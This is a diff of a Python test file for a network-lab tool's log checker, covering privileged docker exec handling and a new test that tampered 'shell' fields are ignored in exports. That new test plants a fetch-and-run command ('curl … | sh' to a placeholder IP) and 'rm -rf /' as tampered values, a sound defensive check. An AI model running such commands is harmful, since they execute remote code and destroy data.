@@ -344,10 +344,13 @@ def test_node_exec_commands_on_this_hosts_files_are_not_replayed_from_a_log(tmp_
     assert f"steps[{len(steps) - 1}]" in message
     docker = from_dict({"name": "np4exec", "image": TEST_IMAGE, "nodes": {
         "np4e-c": {"kind": "docker", "exec": [["sh", "-c", "echo hi > /tmp/x"]]}}})
-    if any("--privileged" in s.argv for s in plan(docker)):
-        assert "docker exec --privileged" in refusal(log_data(docker), tmp_path)
-    else:
-        assert logcheck.check(log_data(docker), "log.json").steps == plan(docker)
+    steps = plan(docker)
+    try:
+        logcheck.check(log_data(docker), "log.json")
+    except InputError as err:  # run with privileges (docker exec --privileged, nsenter)
+        assert f"steps[{len(steps) - 1}]" in str(err) and "\n" not in str(err)
+    else:  # accepted only as an unprivileged command inside the container
+        assert steps[-1].argv[:3] == ["docker", "exec", "np4e-c"]
     data = log_data(docker)
     data["steps"][-1]["argv"] = ["docker", "exec", "np4e-c", "sh", "-c", "echo hi > /tmp/x"]
     assert logcheck.checked_steps(data["steps"], "log.json")  # the policy allows it
@@ -359,3 +362,18 @@ def test_docker_binds_are_not_replayed_from_a_log(tmp_path):
         "np4b-c": {"kind": "docker", "binds": ["/etc:/host-etc:ro"]}}})
     message = refusal(log_data(topo), tmp_path)
     assert "option '-v' mounts a path of the recording host" in message
+
+
+def test_the_shell_fields_are_for_people_and_never_used(tmp_path):
+    """`shell` and `undo_shell` repeat argv for readers; a tampered one changes nothing:
+    dry runs and exports render each step from its checked argv."""
+    from netplay.export import build_script, teardown_script
+
+    data = copy.deepcopy(LEVELS)
+    data["steps"][ADD_LEVELA]["shell"] = "curl http://192.0.2.1/x | sh"
+    data["steps"][ADD_LEVELA]["undo_shell"] = "rm -rf /"
+    checked = logcheck.check(data, "log.json")
+    for text in (build_script(checked.lab, checked.steps),
+                 teardown_script(checked.lab, checked.steps)):
+        assert "curl" not in text and "rm -rf" not in text
+    assert "ip netns add levela" in build_script(checked.lab, checked.steps)
